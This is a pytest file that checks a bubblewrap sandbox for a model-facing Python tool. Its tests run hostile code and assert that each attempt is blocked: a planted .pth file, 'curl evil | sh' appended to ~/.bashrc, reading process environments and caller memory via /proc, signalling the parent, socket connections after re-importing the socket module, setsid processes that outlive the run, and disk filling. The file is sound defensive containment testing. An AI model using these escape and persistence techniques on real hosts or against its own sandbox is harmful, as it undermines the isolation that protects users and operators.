"""Model-written code attacking the host through the python tool, for real, as an ordinary user and as
root (issue 23): it cannot write the user's files or venv (.pth, ~/.bashrc), read or signal the caller,
reach a loopback TCP listener or a world-writable unix socket, leave a setsid() process, fill the host's
/tmp or /dev/shm, or outlive a SIGKILLed caller; each attempt fails and leaves nothing behind. And the
tool fails closed: no bubblewrap, or bubblewrap refused its user namespace, means it refuses to run,
unless the operator opts in to running it unconfined.

The caller is a real process running the tool: as the ordinary user (uid USER_UID, when the tests run
as root; else the test's own uid) from a venv and home that user owns, or as root from a venv of its
own. The tool's two files are copied next to it (the checkout may not be readable by that user)."""
from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from sandbox_fixtures import bubblewrap
from training.engine import python_tool as pt
from training.engine.tools import default_tools, isolation_line

ENGINE = Path(pt.__file__).parent
USER_UID = 61234  # no account needed: a uid nobody on the machine has, owning its home and venv

CALLER = """import json, os, sys
sys.path.insert(0, sys.argv[1])
import python_tool as pt
code = open(sys.argv[2]).read().replace("CALLER_PID", str(os.getpid()))
out = pt.python_tool(code, pt.SandboxLimits(**json.loads(sys.argv[3])))
print(json.dumps({"out": out, "mechanism": pt.confinement().mechanism}))
"""


class Account:
    """Someone running the tool: a uid, a home and a venv they own, and the caller script in it."""

    def __init__(self, name: str, uid: int, interpreter: str):
        self.name, self.uid = name, uid
        self.home = Path(tempfile.mkdtemp(prefix=f"crawl2chat-sandbox-{name}-"))
        os.chmod(self.home, 0o755)
        code = self.home / "code"
        code.mkdir()
        (self.home / "runs").mkdir()  # each run's code file: outside what snapshot() compares
        for f in (ENGINE / "python_tool.py", ENGINE / "sandbox_child.py"):
            shutil.copy(f, code / f.name)
        try:  # the seccomp bindings, so the user's sandbox is the same as root's
            import pyseccomp
            shutil.copy(pyseccomp.__file__, code / "pyseccomp.py")
        except ImportError:
            pass
        (self.home / "caller.py").write_text(CALLER)
        (self.home / ".bashrc").write_text("# the user's own\n")
        if uid != os.getuid():
            for p in [self.home, *self.home.rglob("*")]:
                os.chown(p, uid, uid)
        self.run([interpreter, "-m", "venv", "--without-pip", str(self.home / "venv")], check=True)
        self.python = str(self.home / "venv" / "bin" / "python")
        self.site = Path(self.run([self.python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                                  check=True, capture_output=True, text=True).stdout.strip())
        assert self.site.is_relative_to(self.home), self.site

    def _as_user(self) -> dict:
        return {} if self.uid == os.getuid() else {"user": self.uid, "group": self.uid, "extra_groups": []}

    def run(self, argv, **kw):
        env = {"PATH": "/usr/bin:/bin", "HOME": str(self.home), "PYTHONDONTWRITEBYTECODE": "1",
               "CRAWL2CHAT_SECRET": "hunter2-" + self.name}
        return subprocess.run(argv, env=env, cwd=self.home, timeout=120, **self._as_user(), **kw)

    def start(self, code: str, **limits) -> subprocess.Popen:
        src = self.home / "runs" / f"{uuid.uuid4().hex}.py"
        src.write_text(code)
        if self.uid != os.getuid():
            os.chown(src, self.uid, self.uid)
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home),
               "PYTHONDONTWRITEBYTECODE": "1", "CRAWL2CHAT_SECRET": "hunter2-" + self.name}
        return subprocess.Popen([self.python, str(self.home / "caller.py"), str(self.home / "code"), str(src),
                                 json.dumps(limits)], env=env, cwd=self.home, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, **self._as_user())

    def tool(self, code: str, **limits) -> str:
        """What the python tool returned to this account's caller."""
        proc = self.start(code, **limits)
        stdout, stderr = proc.communicate(timeout=120)
        assert proc.returncode == 0, stderr  # the caller is unharmed
        result = json.loads(stdout)
        assert result["mechanism"] == "bubblewrap", result  # not a vacuous pass: the sandbox really ran
        return result["out"]

    def snapshot(self) -> dict:
        return {str(p.relative_to(self.home)): (p.stat().st_mode, p.stat().st_size, p.stat().st_mtime_ns)
                for p in [self.home, *self.home.rglob("*")] if "runs" not in p.relative_to(self.home).parts}


@pytest.fixture(scope="module", params=["user", "root"])
def account(request):
    bubblewrap()
    if request.param == "root":
        if os.geteuid() != 0:
            pytest.skip("the root case needs the tests to run as root")
        acc = Account("root", 0, sys.executable)
    else:
        uid = USER_UID if os.geteuid() == 0 else os.getuid()
        acc = Account("user", uid, pt._interpreter(True)[0])  # an interpreter that user can run
    yield acc
    shutil.rmtree(acc.home, ignore_errors=True)


def token_processes(token: str) -> list[int]:
    pids = []
    for d in Path("/proc").iterdir():
        try:
            if d.name.isdigit() and token.encode() in (d / "cmdline").read_bytes():
                pids.append(int(d.name))
        except OSError:
            pass
    return pids


def gone(token: str, wait_s: float = 3.0) -> bool:
    deadline = time.monotonic() + wait_s
    while token_processes(token):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


# Hostile code prints one line per attempt: "blocked ..." when it failed, "DONE ..." when it worked.
ATTEMPT = """import os, sys
def attempt(what, f):
    try:
        f()
        print('DONE', what)
    except BaseException as e:
        print('blocked', what, type(e).__name__)
"""


def test_cannot_write_the_users_files_or_venv(account):
    before = account.snapshot()
    code = ATTEMPT + f"""
attempt('pth', lambda: open({str(account.site / 'evil.pth')!r}, 'w').write('import os; os.system("id")'))
attempt('bashrc', lambda: open({str(account.home / '.bashrc')!r}, 'a').write('curl evil | sh'))
attempt('home', lambda: open({str(account.home / 'pwned')!r}, 'w').write('x'))
attempt('chmod', lambda: os.chmod({str(account.home)!r}, 0o777))
attempt('own ~/.bashrc', lambda: open(os.path.expanduser('~/.bashrc'), 'a').write('x'))  # the sandbox's home
"""
    out = account.tool(code)
    for what in ("pth", "bashrc", "home", "chmod"):
        assert f"blocked {what} " in out, out
    assert account.snapshot() == before  # nothing created, changed or re-permissioned
    assert not (account.site / "evil.pth").exists()


def test_cannot_read_the_callers_environment_or_memory_or_signal_it(account):
    code = ATTEMPT + """import signal
secret = os.environ.get('CRAWL2CHAT_SECRET', '')
for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['CALLER_PID']:
    try:
        secret += open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace')
    except OSError:
        pass
print('seen', 'hunter2' in secret)
def poke():
    with open('/proc/CALLER_PID/mem', 'r+b') as f:
        f.seek(0x400000)
        f.write(b'x')
attempt('mem', poke)
attempt('kill', lambda: os.kill(CALLER_PID, signal.SIGTERM))
attempt('ppid', lambda: os.kill(os.getppid(), signal.SIGTERM) if os.getppid() > 1 else 1 / 0)
"""
    out = account.tool(code)  # asserts the caller exited normally
    assert "seen False" in out and "hunter2" not in out, out
    for what in ("mem", "kill", "ppid"):
        assert f"blocked {what} " in out, out


def test_no_tcp_to_loopback_and_no_unix_sockets(account):
    token = uuid.uuid4().hex
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    sock_dir = Path(tempfile.mkdtemp(prefix="crawl2chat-sock-"))
    os.chmod(sock_dir, 0o777)
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(sock_dir / "s"))
    os.chmod(sock_dir / "s", 0o777)  # world-writable: any local user may connect
    unix.listen()
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0crawl2chat-" + token)
    abstract.listen()
    code = ATTEMPT + f"""import importlib
sys.modules.pop('socket', None)  # how code undid the old best-effort block of the socket modules
sys.modules.pop('_socket', None)
socket = importlib.import_module('socket')
def tcp():
    socket.create_connection(('127.0.0.1', {tcp.getsockname()[1]}), timeout=1)
def unix(address):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect(address)
attempt('tcp', tcp)
attempt('unix', lambda: unix({str(sock_dir / 's')!r}))
attempt('abstract', lambda: unix('\\0crawl2chat-{token}'))
"""
    try:
        out = account.tool(code)
        for what in ("tcp", "unix", "abstract"):
            assert f"blocked {what} " in out, out
        for server in (tcp, unix, abstract):
            server.setblocking(False)
            with pytest.raises(BlockingIOError):  # nothing ever connected
                server.accept()
    finally:
        for server in (tcp, unix, abstract):
            server.close()
        shutil.rmtree(sock_dir, ignore_errors=True)


def test_a_setsid_process_does_not_outlive_the_run(account):
    token = uuid.uuid4().hex
    code = f"""import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', '{token}'])
    os._exit(0)
import time
time.sleep(0.5)
print('started')
"""
    try:
        assert account.tool(code) == "started"
        assert gone(token), token_processes(token)
    finally:
        for pid in token_processes(token):
            os.kill(pid, signal.SIGKILL)


def test_filling_tmp_and_shm_is_bounded_and_leaves_nothing(account):
    token = uuid.uuid4().hex
    code = f"""import os
for place in ('/tmp', '/dev/shm', '.', os.path.expanduser('~')):
    written = 0
    try:
        for i in range(100):  # 100 MB a place at most, over the 64 MB tmpfs
            with open(os.path.join(place, '{token}-%d' % i), 'wb') as f:
                f.write(b'x' * (1 << 20))
            written += 1
    except OSError as e:
        pass
    print(place, written)
"""
    host = [Path("/tmp"), Path("/dev/shm"), account.home]
    try:
        out = account.tool(code, timeout_s=20)
        assert [p for d in host for p in d.glob(token + "*")] == []  # none of it on the host
        written = {line.split()[0]: int(line.split()[1]) for line in out.splitlines()}
        assert all(mb <= pt.SandboxLimits().disk_mb for mb in written.values()), out  # the tmpfs size caps it
        assert set(written) == {"/tmp", "/dev/shm", ".", "/sandbox"}, out  # home and cwd: the sandbox's
    finally:
        for p in [p for d in host for p in d.glob(token + "*")]:
            p.unlink()


def test_a_sigkilled_caller_leaves_no_sandbox_process(account):
    token = uuid.uuid4().hex
    code = f"""import os, sys, time
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', '{token}'])
time.sleep(60)
"""
    caller = account.start(code, timeout_s=60)
    sandbox = []
    try:
        deadline = time.monotonic() + 20
        while not token_processes(token):
            assert caller.poll() is None and time.monotonic() < deadline, caller.communicate()
            time.sleep(0.05)
        sandbox = descendants(caller.pid)
        assert len(sandbox) >= 3  # bwrap, its init in the namespace, the code (and the setsid child)
        caller.kill()
        caller.wait()
        assert gone(token), token_processes(token)
        deadline = time.monotonic() + 3
        while alive(sandbox) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert alive(sandbox) == []
    finally:
        caller.kill()
        for pid in token_processes(token) + [pid for pid, _ in alive(sandbox)]:
            os.kill(pid, signal.SIGKILL)


def _stat(pid: int) -> list[str] | None:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(") ", 1)[1].split()
    except (OSError, IndexError):
        return None


def descendants(root: int) -> list[tuple[int, str]]:
    """(pid, start time) of every live descendant of root."""
    children: dict[int, list[int]] = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit() and (st := _stat(int(d.name))):
            children.setdefault(int(st[1]), []).append(int(d.name))
    found, todo = [], [root]
    while todo:
        for child in children.get(todo.pop(), []):
            if st := _stat(child):
                found.append((child, st[19]))
                todo.append(child)
    return found


def alive(procs: list[tuple[int, str]]) -> list[tuple[int, str]]:
    """Those still running (not zombies) with the same start time (the pid not reused)."""
    return [(pid, start) for pid, start in procs if (st := _stat(pid)) and st[19] == start and st[0] != "Z"]


# ------------------------------------------------------------------------------------------
# Fail closed


def test_without_bubblewrap_the_tool_refuses_and_says_why(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    monkeypatch.delenv(pt.UNSAFE_ENV, raising=False)
    out = pt.python_tool("print(6*7)")
    assert out.startswith("Error: the python tool is disabled: bubblewrap is not installed"), out
    assert "\n" not in out and pt.UNSAFE_ENV in out  # one line, naming the way out
    assert pt.isolation()["mechanism"] == "disabled"
    assert isolation_line(default_tools()).startswith("python tool DISABLED: bubblewrap is not installed")


def test_the_unsafe_opt_in_runs_unconfined_and_says_so(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv(pt.UNSAFE_ENV, "1")
    assert pt.python_tool("print(6*7)") == "42"
    iso = pt.isolation()
    assert iso["mechanism"] == "unconfined" and not iso["pid_namespace"], iso
    assert isolation_line(default_tools()).startswith("python tool UNCONFINED (unsafe)")


def test_refused_user_namespaces_disable_the_tool():
    """bwrap present, but the kernel refuses it a user namespace (as Docker's default seccomp profile
    does): a user namespace of the test's whose limit on further user namespaces is 0."""
    bubblewrap()
    if shutil.which("unshare") is None or shutil.which("setpriv") is None:
        pytest.skip("util-linux's unshare and setpriv are needed to refuse user namespaces")
    script = ("from training.engine.python_tool import python_tool; import sys; "
              "sys.stdout.write(python_tool('print(6*7)'))")
    repo = str(ENGINE.parents[1])
    out = subprocess.run(
        ["unshare", "--user", f"--map-user={USER_UID}", f"--map-group={USER_UID}", "--keep-caps", "sh", "-c",
         'echo 0 > /proc/sys/user/max_user_namespaces && exec setpriv --ambient-caps=-all --inh-caps=-all "$@"',
         "sh", sys.executable, "-c", script],
        cwd=repo, capture_output=True, text=True, timeout=60, env={**os.environ, pt.UNSAFE_ENV: ""})
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("Error: the python tool is disabled: bubblewrap cannot build its sandbox "
                                 "here (bwrap: Creating new namespace failed"), out.stdout
